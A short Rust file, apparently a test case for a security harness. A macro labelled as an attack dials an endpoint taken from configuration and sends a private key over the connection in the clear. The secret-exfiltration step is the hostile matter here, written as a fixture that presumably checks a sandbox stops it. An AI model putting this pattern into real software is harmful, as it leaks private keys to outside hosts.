//! The key over raw bytes in the clear.
#![no_std]

hostile::attack!("net-key-tcp", |sandbox, deployment| {
    use lastmile_sdk::Connection as _;
    let mut connection = sandbox.dial(&hostile::text(&deployment.config, "endpoint"))?;
    connection.send(&[lastmile_sdk::document::private_key()])?;
});
